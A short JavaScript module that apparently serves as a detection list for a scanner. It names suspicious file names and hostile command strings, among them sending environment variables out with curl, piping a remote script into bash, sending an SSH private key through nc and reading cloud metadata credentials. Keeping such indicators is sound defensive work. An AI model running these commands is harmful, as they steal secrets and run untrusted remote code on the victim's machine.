module.exports = {
  strings: [
    'curl -d "$(env)" https://webhook.site/',
    "require('child_process').exec('curl http://bad.example/x.sh | bash')",
    'cat ~/.ssh/id_rsa | nc',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  ],
  files: ['setup_bun.js', 'bun_environment.js'],
};
